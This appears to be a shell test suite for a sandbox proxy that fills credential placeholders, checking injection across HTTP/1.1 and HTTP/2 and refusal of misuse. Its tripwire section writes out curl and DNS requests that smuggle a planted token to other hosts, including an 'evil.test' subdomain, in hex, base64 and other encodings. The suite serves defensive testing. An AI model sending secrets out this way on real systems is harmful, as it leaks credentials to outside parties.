#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Placeholders: what stands in the variables, where they are filled and where they trip; credentials of the sandbox's own.
# Over HTTP/1.1 and HTTP/2 on both sides. J03-J05, J22, J23, UF01, UF02, UF04, UF08.
NAME=creds
. "$(dirname "$0")/creds-lib.sh"
can_run
make_pki DNS:one.test,DNS:two.test,DNS:other.test,DNS:strict.test,DNS:lax.test,DNS:inj.test
cred_origin
REAL=ghp_pLaNtEdpLaNtEdpLaNtEdpLaNtEdpLaNtEd0
ODD='se"cr/et&+ v%41\x-planted'
entries="    allow: [ \"GET /**\", \"POST /**\" ]
    inject:
      - { secret: gh, as: placeholder, in: [header, basic, query, path, json, form, text], env: GH }
      - { secret: odd, as: placeholder, in: [path, query, json, form, text], env: { ODD: \"{}\", ODD_URL: \"https://two.test/hook/{}\" } }"
cat >"$WORK/policy.yaml" <<P
version: 1
name: creds
secrets:
  gh: { env: REAL, hosts: [one.test, two.test, strict.test, inj.test] }
  odd: { env: ODD, hosts: [one.test, two.test] }
  keep: { env: KEEP, hosts: [lax.test, inj.test], body: deny }
  only: { env: ONLY, hosts: [inj.test], scope: sandbox }
destinations:
$(dest one.test ', alpn: [http/1.1]')
$entries
$(dest two.test ', alpn: [h2]')
$entries
$(dest other.test)
    allow: [ "ANY /**", { method: POST, path: /**, body: any } ]
$(dest strict.test)
    allow: [ "GET /**" ]
    foreign: refuse
    credential_places: [X-Custom, "?apikey"]
    inject: [ { secret: gh, as: bearer, env: GH } ]
$(dest lax.test)
    allow: [ "GET /**" ]
    foreign: pass
    inject: [ { secret: keep, as: header, name: X-Api-Key, env: KEEP } ]
$(dest inj.test)
    allow: [ { method: GET, path: /a/**, id: in-a }, { method: GET, path: /b/**, id: in-b }, "POST /**" ]
    credential_places: [X-Custom, "?sig"]
    inject:
      - { secret: keep, as: query, name: key, when: [in-a] }
      - { secret: gh, as: bearer, when: [in-a] }
      - { secret: only, as: bearer, when: [in-b], env: ONLY }
P
in_box() { (cd "$WORK" && REAL=$REAL ODD=$ODD KEEP=kept-planted-kept-planted ONLY=only-planted-only-planted timeout 120 "$SP" run --quiet --policy policy.yaml "$@"); }

# --- variables
in_box -- env >"$T/env1" 2>&1
in_box -- env >"$T/env2" 2>&1
GH=$(sed -n 's/^GH=//p' "$T/env1") KEEP=$(sed -n 's/^KEEP=//p' "$T/env1")
check "the placeholder is shaped like a token, checksum too" python3 - "$GH" "$REAL" <<'P'
import sys, zlib
p, real = sys.argv[1:]
a = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
c, s = zlib.crc32(p[4:34].encode()), ""
for _ in range(6): s, c = a[c % 62] + s, c // 62
assert p[:4] == "ghp_" and len(p) == len(real) and p != real and p[34:] == s, (p, s)
P
check "it is the same in the next sandbox; that of scope sandbox is another" bash -c 'diff <(grep -E "^(GH|ODD|ODD_URL|KEEP)=" "$1" | sort) <(grep -E "^(GH|ODD|ODD_URL|KEEP)=" "$2" | sort) && ! diff <(grep ^ONLY= "$1") <(grep ^ONLY= "$2")' _ "$T/env1" "$T/env2"
has "a template holds it" "$T/env1" "ODD_URL=https://two.test/hook/$(sed -n 's/^ODD=//p' "$T/env1")"
in_box -e GH=mine -- sh -c 'echo "GH is $GH"' >"$T/out" 2>&1
has "what is set by hand stays" "$T/out" "GH is mine"

# --- filled in every declared place, in both versions on both sides
forget
cat >"$WORK/places.sh" <<'S'
for host in one.test two.test; do
	for v in 1.1 2; do
		c() { curl -sS -m 30 --http$v -o /dev/null -w "%{http_code} %{http_version}\n" "$@"; }
		c -H "Authorization: token $GH" https://$host/header
		c -H "X-Api-Key: $GH" https://$host/apikey
		c -u "robot:$GH" https://$host/basic
		c -u "$GH:x-oauth-basic" https://$host/basic2
		c "https://$host/query?a=1&k=$GH&odd=$ODD"
		c "https://$host/path/$ODD/end"
		c -H 'Content-Type: application/json' -d "{\"a\":\"$GH\",\"odd\":\"$ODD\"}" https://$host/json
		c -H 'Content-Type: application/json' -H 'Transfer-Encoding: chunked' -d "{\"a\":\"$GH\",\"odd\":\"$ODD\"}" https://$host/jsonchunked
		c --data-urlencode "odd=$ODD" -d "a=$GH" https://$host/form
		c -H 'Content-Type: text/plain' -d "x $ODD y" https://$host/text
		c -F "a=$ODD" https://$host/multipart
		c -H "Authorization: Bearer theirs $GH" https://$host/beside
		printf '{"a":"%s"}' "$GH" | gzip | c -H 'Content-Type: application/json' -H 'Content-Encoding: gzip' --data-binary @- https://$host/gzip
		c -H 'Content-Type: application/octet-stream' -d "$GH" https://$host/octets
		c -H 'Content-Type: application/json' --data-binary @big.json https://$host/big
	done
done
c "$ODD_URL"
S
python3 -c "
import os
print('{\"pad\":\"' + 'x' * 5000000 + '\",\"t\":\"@\"}', end='')" >"$T/big"
cat >"$WORK/all.sh" <<'S'
sed "s/@/$GH/" big.in >big.json
. ./places.sh
S
cp "$T/big" "$WORK/big.in"
in_box -- sh ./all.sh >"$T/places" 2>&1
if [ "$(grep -c '^200 ' "$T/places")" -eq 61 ]; then ok "all of them pass"; else not_ok "all of them pass" "$(grep -v "^200" "$T/places")"; fi
for side in one two; do
	v=h1; [ $side = one ] || v=h2
	where="host == '$side.test' and version == '$v' and"
	comes "header, $side" 2 "$where path == '/header' and head('authorization') == 'token $REAL'"
	comes "a place of credentials, $side" 2 "$where path == '/apikey' and head('x-api-key') == '$REAL'"
	comes "Basic, password (UF01), $side" 2 "$where path == '/basic' and base64.b64decode(head('authorization')[6:]) == b'robot:$REAL'"
	comes "Basic, user, $side" 2 "$where path == '/basic2' and base64.b64decode(head('authorization')[6:]) == b'$REAL:x-oauth-basic'"
	comes "query, $side" 2 "$where path == '/query' and urllib.parse.parse_qs(query) == {'a': ['1'], 'k': ['$REAL'], 'odd': [r'''$ODD''']}"
	comes "path, percent-encoded, $side" 2 "$where path == '/path/' + urllib.parse.quote(r'''$ODD''', safe='') + '/end'"
	comes "what stands beside it does not go along, $side" 2 "$where path == '/beside' and 'authorization' not in h"
	for p in json jsonchunked; do
		comes "$p, $side" 2 "$where path == '/$p' and json.loads(body) == {'a': '$REAL', 'odd': r'''$ODD'''}"
	done
	comes "json: the length is told anew, $side" 2 "$where path == '/json' and head('content-length') == str(len(body))"
	comes "form, $side" 2 "$where path == '/form' and urllib.parse.parse_qs(body.decode()) == {'a': ['$REAL'], 'odd': [r'''$ODD''']}"
	comes "text, $side" 2 "$where path == '/text' and body.decode() == 'x ' + r'''$ODD''' + ' y'"
	comes "multipart, $side" 2 "$where path == '/multipart' and r'''$ODD''' in body.decode()"
	comes "compressed content is left alone, $side" 2 "$where path == '/gzip' and __import__('gzip').decompress(body) == b'{\"a\":\"$GH\"}'"
	comes "content of another type is left alone, $side" 2 "$where path == '/octets' and body == b'$GH'"
	comes "5 MB in a stream, $side" 2 "$where path == '/big' and json.loads(body)['t'] == '$REAL' and len(body) == 5000017 + len('$REAL')"
done
comes "from a template's variable" 1 "host == 'two.test' and path == '/hook/' + urllib.parse.quote(r'''$ODD''', safe='')"
for v in "$REAL" "$ODD"; do nowhere "the value is nowhere that it must not be" "$v" "$T/places" "$T/env1" "$T/env2"; done

# --- split at every octet, in both versions
forget
cat >"$WORK/split.py" <<'P'
import os, socket, ssl, sys
gh, ctx = os.environ["GH"], ssl.create_default_context()
body = ('{"a":"' + gh + '"}').encode()
s = ctx.wrap_socket(socket.create_connection(("one.test", 443)), server_hostname="one.test")
f = s.makefile("rb")
for cut in range(len(body) + 1):
    s.sendall(b"POST /split HTTP/1.1\r\nHost: one.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    for part in (body[:cut], body[cut:]):
        if part: s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
    s.sendall(b"0\r\n\r\n")
    line = f.readline(); n = 0
    while True:
        h = f.readline()
        if not h.strip(): break
        if h.lower().startswith(b"content-length:"): n = int(h.split()[1])
    f.read(n)
    assert b" 200 " in line, line
sys.path.insert(0, "h2"); import client
c = client.Client("two.test")
for cut in range(len(body) + 1):
    sid = c.request("/split", "POST", end=False, more=[("content-type", "application/json")])
    c.send(sid, body[:cut], end=False); c.send(sid, body[cut:])
    while not c.streams[sid].over(): c.turn()
    assert c.streams[sid].status() == "200", str(c.streams[sid])
print("split in", len(body) + 1)
P
cp -r "$E2E/h2" "$WORK/"
in_box -- python3 split.py >"$T/out" 2>&1
n=$((${#GH} + 9))
has "every split is sent" "$T/out" "split in $n"
comes "J05 filled at every split, chunks" "$n" "host == 'one.test' and path == '/split' and json.loads(body) == {'a': '$REAL'}"
comes "J05 filled at every split, DATA frames" "$n" "host == 'two.test' and path == '/split' and json.loads(body) == {'a': '$REAL'}"

# --- the tripwire
forget
cat >"$WORK/trip.sh" <<'S'
c() { curl -sS -m 20 -o body -w "%{http_code} " "$@"; cat body 2>/dev/null | grep -o '"error":"[a-z_]*"'; echo " $*" | cut -c 1-90; : >body; }
up=$(printf %s "$GH" | tr a-z A-Z) b64=$(printf 'x%sy' "$GH" | base64 -w0) hex=$(printf %s "$GH" | od -An -tx1 | tr -d ' \n') pct=$(printf %s "$GH" | sed 's/_/%5F/;s/\(....\)$/%2E\1/')
for v in 1.1 2; do
	c --http$v -H "Authorization: Bearer $GH" https://other.test/
	c --http$v -u "x:$GH" https://other.test/
	c --http$v -H "X-Any: $up" https://other.test/
	c --http$v -H "X-Any: $hex" https://other.test/
	c --http$v -H "X-Any: $b64" https://other.test/
	c --http$v -A "$GH" https://one.test/
	c --http$v -e "https://x/$GH" https://two.test/
	c --http$v "https://other.test/?q=$GH"
	c --http$v "https://other.test/$b64"
	c --http$v "https://one.test/?q=$up"
	c --http$v "https://one.test/p/$hex"
	c --http$v -H "X-Any: \"$(printf %s "$GH" | sed 's/_/\\u005f/')\"" https://other.test/
done
c "https://$(printf %s "$GH" | tr _ -).other.test/"
c -x '' "https://$(printf %.20s "$hex").$(printf %s "$hex" | tail -c +21).evil.test/"
c "http://nowhere.test/$GH"
S
in_box -- sh ./trip.sh >"$T/trip" 2>&1
if [ "$(grep -c '^403 "error":"placeholder_misuse"' "$T/trip")" -eq 23 ]; then ok "J04 UF02 UF04 a placeholder elsewhere is refused, in every form"; else not_ok "J04 UF02 UF04 a placeholder elsewhere is refused, in every form" "$(cat "$T/trip")"; fi
check "also in CONNECT, in its host and in a field" test "$(grep -c 'CONNECT tunnel failed, response 403' "$T/trip")" -eq 3
comes "nothing of it arrives" 0 True
check "each is a finding" test "$(records | grep '"kind":"finding"' | grep -c placeholder_misuse)" -ge 25
check "also in a DNS question" test "$(records | grep '"kind":"finding"' | grep -c 'DNS question')" -ge 1
# no destination's host has it: the name comes by SNI alone
in_box -- python3 -c "
import os, socket, ssl
c = ssl.create_default_context()
try: c.wrap_socket(socket.create_connection(('other.test', 443)), server_hostname=os.environ['GH'].replace('_', '-') + '.test')
except ssl.SSLError as e: print('alert', e.reason)
" >"$T/out" 2>&1
has "in SNI: an alert" "$T/out" "alert"
check "and a finding" test "$(records | grep '"kind":"finding"' | grep -c 'placeholder stands in the server name')" -ge 1

# --- in content: told, or refused
forget
cat >"$WORK/body.sh" <<'S'
for v in 1.1 2; do
	curl -sS -m 20 --http$v -o /dev/null -w '%{http_code}\n' -d "a transcript with $GH in it" https://other.test/told
	curl -sS -m 20 --http$v -o /dev/null -w '%{http_code}\n' -d "{\"a\":\"$(printf %s "$KEEP" | sed 's/\(.\)$/\\u00@\1/' | sed "s/@.*/$(printf %s "$KEEP" | tail -c 1 | od -An -tx1 | tr -d ' \n')/")\"}" https://other.test/denied
	(head -c 300000 /dev/zero | tr '\0' x; printf %s "$KEEP"; head -c 300000 /dev/zero | tr '\0' x) | curl -sS -m 20 --http$v -o /dev/null -w '%{http_code}\n' -T - https://other.test/deniedstream
done
S
in_box -- sh ./body.sh >"$T/out" 2>&1
comes "a transcript passes" 2 "path == '/told' and b'$GH' in body"
comes "body: deny ends it" 0 "path.startswith('/denied')"
check "a transcript is told" test "$(records | grep '"kind":"finding"' | grep 'stands in the content' | grep -c '"secrets":\["gh"\]')" -ge 1

# --- foreign credentials, one entry per place, by rule, in the query
forget
cat >"$WORK/foreign.sh" <<'S'
c() { curl -sS -m 20 -o body -w "%{http_code} " "$@"; grep -o '"error":"[a-z_]*"' body; echo " $*" | cut -c 1-90; }
for v in 1.1 2; do
	c --http$v -H "Authorization: Bearer $GH" https://strict.test/own
	c --http$v -u "x:$GH" https://strict.test/own
	c --http$v https://strict.test/own
	c --http$v -H "Authorization: Bearer theirs" https://strict.test/no
	c --http$v -u "me:theirs" https://strict.test/no
	c --http$v -H "Cookie: session=theirs" https://strict.test/no
	c --http$v -H "x_custom: theirs" https://strict.test/no
	c --http$v "https://strict.test/no?apikey=theirs"
	c --http$v -H "Cookie: session=mine" -H "X-Api-Key: mine" -H "x_api_key: mine" https://lax.test/pass
	c --http$v -H "Authorization: Basic AAAA" -H "Cookie: mine" -H "Private-Token: mine" -H "X-Custom: mine" "https://inj.test/a/x?key=mine&a=1&KEY=mine;k%65y=mine&key[]=mine&sig=mine"
	c --http$v "https://inj.test/a/y"
	c --http$v "https://inj.test/b/x?a=1"
done
S
in_box -- sh ./foreign.sh >"$T/out" 2>&1
comes "J23 foreign: refuse takes our own placeholder" 6 "host == 'strict.test' and path == '/own' and head('authorization') == 'Bearer $REAL'"
comes "J23 foreign: refuse refuses all else" 0 "path == '/no'"
check "with its code" test "$(grep -c '^403 "error":"foreign_credential"' "$T/out")" -eq 10
comes "foreign: pass leaves what is not injected" 2 "host == 'lax.test' and head('cookie') == 'session=mine' and head('x-api-key') == 'kept-planted-kept-planted' and 'x_api_key' not in h"
comes "foreign: replace empties every place, in every spelling and number" 2 "path == '/a/x' and query == 'a=1&key=kept-planted-kept-planted' and head('authorization') == 'Bearer $REAL' and not {'cookie', 'private-token', 'x-custom'} & set(h)"
comes "a query where there was none" 2 "path == '/a/y' and query == 'key=kept-planted-kept-planted'"
comes "when: another rule, another credential" 2 "path == '/b/x' and query == 'a=1' and head('authorization') == 'Bearer only-planted-only-planted'"
for v in kept-planted-kept-planted only-planted-only-planted; do nowhere "the value is nowhere that it must not be" $v "$T/out" "$T/trip"; done
hasnt "no record has a value" <(records) "planted"

# --- what a sandbox's end looks like, and who holds what while it lives
sed 's/^version: 1/version: 1\nsandbox: { on_misuse: stop_sandbox }/' "$WORK/policy.yaml" >"$WORK/stop.yaml"
(cd "$WORK" && REAL=$REAL ODD=$ODD KEEP=kept-planted-kept-planted ONLY=only-planted-only-planted timeout 60 "$SP" run --policy stop.yaml -- sh -c 'curl -sS -o /dev/null https://one.test/ok; curl -sS -m 5 https://other.test/$GH; sleep 60; echo alive') >"$T/out" 2>&1
check "on_misuse: stop_sandbox ends it" test $? -eq 125
has "and says so" "$T/out" "a placeholder was misused"
hasnt "at once" "$T/out" "alive"
has "a record says why" <(records) "on_misuse: stop_sandbox"
in_box -- sh -c 'curl -sS -o /dev/null -H "Authorization: token $GH" https://one.test/live; touch lives; while [ ! -e stop ]; do sleep 0.1; done' >"$T/out" 2>&1 &
PIDS+=($!)
wait_for 20 test -e "$WORK/lives"
roles_clean "memory of roles that must not hold it is clean" "$REAL"
touch "$WORK/stop"
wait "${PIDS[-1]}"
check_done
